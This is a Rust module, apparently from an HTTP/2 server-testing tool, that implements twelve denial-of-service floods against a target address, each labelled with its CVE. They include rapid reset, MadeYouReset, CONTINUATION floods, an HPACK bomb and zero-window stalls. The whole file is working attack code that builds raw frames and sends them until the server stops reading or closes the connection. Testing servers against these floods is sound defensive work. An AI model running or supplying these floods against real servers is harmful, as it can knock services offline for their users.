//! Floods of HTTP/2 frames: cheap to send, costly for a server that does not look out.

use std::io::{self, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use super::frames::{
    END_HEADERS, END_STREAM, Kind, PREFACE, put_frame, put_literal, request_block,
};
use crate::error::Error;

/// How long a flood waits for a server that reads nothing any more.
const WRITE_PATIENCE: Duration = Duration::from_millis(500);

/// Streams that are open side by side, where a flood needs some.
const STREAMS: u32 = 100;

/// `SETTINGS_INITIAL_WINDOW_SIZE`. RFC 9113 §6.5.2.
const INITIAL_WINDOW_SIZE: u16 = 4;

/// What is sent over and over.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// A request, and at once its reset (CVE-2023-44487).
    RapidReset,
    /// A request, and at once a frame that makes the server reset it (CVE-2025-8671).
    MadeYouReset,
    /// A field block that never ends (CVE-2024-27316 and others).
    Continuation,
    /// The same in frames without content.
    EmptyContinuation,
    /// SETTINGS, of which each wants an answer (CVE-2019-9515).
    Settings,
    /// PING, of which each wants an answer (CVE-2019-9512).
    Ping,
    /// DATA without content (CVE-2019-9518).
    EmptyData,
    /// PRIORITY, for streams that are not there (CVE-2019-9513).
    Priority,
    /// WINDOW_UPDATE of one byte, for the connection.
    WindowUpdate,
    /// Fields that stand in one byte each and are 4 KB long (CVE-2016-6581).
    HpackBomb,
    /// Requests for something large, with no room for any of it (CVE-2019-9517).
    ZeroWindow,
    /// The same with room for one byte at a time (CVE-2019-9511).
    OneByteWindow,
}

/// What came of a flood.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct FloodReport {
    /// Frames sent.
    pub frames: usize,
    /// Bytes received.
    pub received: usize,
    /// The server closed the connection.
    pub cut: bool,
    /// The server stopped reading.
    pub stuck: bool,
}

/// One connection under way.
struct Attack {
    stream: TcpStream,
    out: Vec<u8>,
    next_stream: u32,
    report: FloodReport,
}

impl Flood {
    /// All of them.
    pub const ALL: [Self; 12] = [
        Self::RapidReset,
        Self::MadeYouReset,
        Self::Continuation,
        Self::EmptyContinuation,
        Self::Settings,
        Self::Ping,
        Self::EmptyData,
        Self::Priority,
        Self::WindowUpdate,
        Self::HpackBomb,
        Self::ZeroWindow,
        Self::OneByteWindow,
    ];

    /// As it stands in reports.
    #[must_use]
    pub const fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset",
            Self::MadeYouReset => "made you reset",
            Self::Continuation => "CONTINUATION",
            Self::EmptyContinuation => "empty CONTINUATION",
            Self::Settings => "SETTINGS",
            Self::Ping => "PING",
            Self::EmptyData => "empty DATA",
            Self::Priority => "PRIORITY",
            Self::WindowUpdate => "WINDOW_UPDATE",
            Self::HpackBomb => "HPACK bomb",
            Self::ZeroWindow => "zero window",
            Self::OneByteWindow => "1-byte window",
        }
    }

    /// Sends it until the server closes the connection, or stops reading, or so many frames have
    /// been sent, or the time is over.
    ///
    /// # Errors
    /// If nobody listens.
    pub fn run(
        self,
        address: SocketAddr,
        target: &str,
        frames: usize,
        time: Duration,
    ) -> Result<FloodReport, Error> {
        let failed = || Error::io(format!("connecting to {address}"));
        let stream = TcpStream::connect(address).map_err(failed())?;
        stream
            .set_write_timeout(Some(WRITE_PATIENCE))
            .map_err(failed())?;
        let mut attack = Attack {
            stream,
            out: PREFACE.to_vec(),
            next_stream: 1,
            report: FloodReport::default(),
        };
        attack.begin(self, target);
        let begun = Instant::now();
        while begun.elapsed() < time && attack.report.frames < frames {
            attack.round(self, target);
            if !attack.send() || !attack.hear() {
                break;
            }
        }
        // What a flood leaves open stays open for its time: that is part of it.
        while begun.elapsed() < time && !attack.report.cut && !attack.report.stuck {
            std::thread::park_timeout(Duration::from_millis(20));
            attack.hear();
        }
        Ok(attack.report)
    }
}

impl Attack {
    fn put(&mut self, kind: Kind, flags: u8, stream: u32, payload: &[u8]) {
        put_frame(&mut self.out, kind, flags, stream, payload);
        self.report.frames += 1;
    }

    fn request(&mut self, method: &str, target: &str, flags: u8) -> u32 {
        let (stream, block) = (self.next_stream, request_block(method, "a", target));
        self.next_stream += 2;
        self.put(Kind::Headers, flags, stream, &block);
        stream
    }

    /// What comes before the flood itself.
    fn begin(&mut self, flood: Flood, target: &str) {
        let window: u32 = match flood {
            Flood::ZeroWindow => 0,
            Flood::OneByteWindow => 1,
            _ => 65_535,
        };
        let setting = [
            &INITIAL_WINDOW_SIZE.to_be_bytes()[..],
            &window.to_be_bytes(),
        ]
        .concat();
        self.put(Kind::Settings, 0, 0, &setting);
        self.put(Kind::Settings, END_STREAM, 0, &[]);
        let streams = STREAMS;
        match flood {
            Flood::ZeroWindow | Flood::OneByteWindow => {
                for _ in 0..streams {
                    self.request("GET", target, END_STREAM | END_HEADERS);
                }
            }
            Flood::EmptyData => {
                self.request("POST", target, END_HEADERS);
            }
            Flood::Continuation | Flood::EmptyContinuation => {
                self.request("GET", target, END_STREAM);
            }
            _ => {}
        }
    }

    /// A handful of frames.
    fn round(&mut self, flood: Flood, target: &str) {
        let (last, whole) = (
            self.next_stream.saturating_sub(2).max(1),
            END_STREAM | END_HEADERS,
        );
        for turn in 0..64_u32 {
            match flood {
                Flood::RapidReset => {
                    let stream = self.request("GET", target, whole);
                    self.put(Kind::RstStream, 0, stream, &8_u32.to_be_bytes());
                }
                Flood::MadeYouReset => {
                    let stream = self.request("GET", target, whole);
                    // RFC 9113 §6.9: an increment of 0 is an error of the stream.
                    self.put(Kind::WindowUpdate, 0, stream, &0_u32.to_be_bytes());
                }
                Flood::Continuation => {
                    let mut block = Vec::new();
                    put_literal(&mut block, b"x-flood", &[b'y'; 100]);
                    self.put(Kind::Continuation, 0, last, &block);
                }
                Flood::EmptyContinuation => self.put(Kind::Continuation, 0, last, &[]),
                Flood::Settings => self.put(Kind::Settings, 0, 0, &[0, 3, 0, 0, 0, 100]),
                Flood::Ping => self.put(Kind::Ping, 0, 0, &[0; 8]),
                Flood::EmptyData => self.put(Kind::Data, 0, last, &[]),
                Flood::Priority => {
                    let stream = turn * 2 + 1_001;
                    self.put(Kind::Priority, 0, stream, &[0, 0, 0, 0, 16]);
                }
                Flood::WindowUpdate => self.put(Kind::WindowUpdate, 0, 0, &1_u32.to_be_bytes()),
                Flood::HpackBomb => self.bomb(target),
                Flood::ZeroWindow => return,
                Flood::OneByteWindow => {
                    let stream = (turn % STREAMS) * 2 + 1;
                    self.put(Kind::WindowUpdate, 0, stream, &1_u32.to_be_bytes());
                }
            }
        }
    }

    /// One large field that goes into the table, then 10,000 times the byte that stands for it.
    fn bomb(&mut self, target: &str) {
        let mut block = request_block("GET", "a", target);
        let value = vec![b'x'; 3_900];
        let mut field = Vec::new();
        put_literal(&mut field, b"x-bomb", &value);
        // RFC 7541 §6.2.1: the same with incremental indexing.
        field[0] = 0x40;
        block.extend_from_slice(&field);
        // The newest entry has the index 62, right behind the static table.
        block.extend(std::iter::repeat_n(0x80 | 62, 10_000));
        let stream = self.next_stream;
        self.next_stream += 2;
        self.put(Kind::Headers, END_STREAM | END_HEADERS, stream, &block);
    }

    /// Sends what has been gathered; `false` when that does not go.
    fn send(&mut self) -> bool {
        let sent = self.stream.write_all(&self.out);
        self.out.clear();
        match sent {
            Ok(()) => true,
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => {
                self.report.stuck = true;
                false
            }
            Err(_) => {
                self.report.cut = true;
                false
            }
        }
    }

    /// Reads what is there; `false` once the server has closed.
    fn hear(&mut self) -> bool {
        if self.stream.set_nonblocking(true).is_err() {
            return false;
        }
        let mut buffer = [0; 64 << 10];
        loop {
            match self.stream.read(&mut buffer) {
                Ok(0) => self.report.cut = true,
                Ok(length) => {
                    self.report.received += length;
                    continue;
                }
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
                Err(_) => self.report.cut = true,
            }
            break;
        }
        self.stream.set_nonblocking(false).is_ok() && !self.report.cut
    }
}
